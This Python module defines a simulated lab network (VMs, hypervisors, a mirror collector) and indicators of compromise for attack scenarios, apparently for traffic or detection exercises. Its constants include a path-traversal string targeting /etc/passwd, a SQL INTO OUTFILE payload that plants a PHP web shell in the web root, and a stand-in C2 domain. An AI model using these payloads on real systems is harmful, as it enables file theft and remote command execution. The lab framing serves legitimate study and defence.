"""The lab network shared by the scenarios: VMs, hypervisors, the mirror collector, IoCs."""

from __future__ import annotations

from lab.traffic import Underlay, vm

__all__ = [
    "APP01",
    "ATTACKER",
    "C2_DOMAIN",
    "COLLECTOR",
    "DB01",
    "DNS01",
    "FILES01",
    "HV1",
    "HV2",
    "JUMP01",
    "MIRROR",
    "OUTFILE_QUERY",
    "OVERLAY",
    "TRAVERSAL",
    "WEB01",
    "WEB_HOST",
]

# VMs on 10.0.0.0/24; hypervisors and the mirror collector on the underlay 192.168.100.0/24.
DNS01 = vm("dns01", 2)
WEB01 = vm("web01", 10)
DB01 = vm("db01", 20)
APP01 = vm("app01", 30)
JUMP01 = vm("jump01", 40)
FILES01 = vm("files01", 50)
ATTACKER = vm("dev07", 66)  # a compromised developer VM
HV1 = vm("hv1", 11, subnet="192.168.100")
HV2 = vm("hv2", 12, subnet="192.168.100")
COLLECTOR = vm("collector", 50, subnet="192.168.100")
OVERLAY = Underlay(HV1, HV2)
MIRROR = Underlay(HV1, COLLECTOR)

WEB_HOST = "web01.lab.internal"
TRAVERSAL = "/static/../../../../etc/passwd"
OUTFILE_QUERY = "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/s.php'"
C2_DOMAIN = "c2.lateral-demo.test"
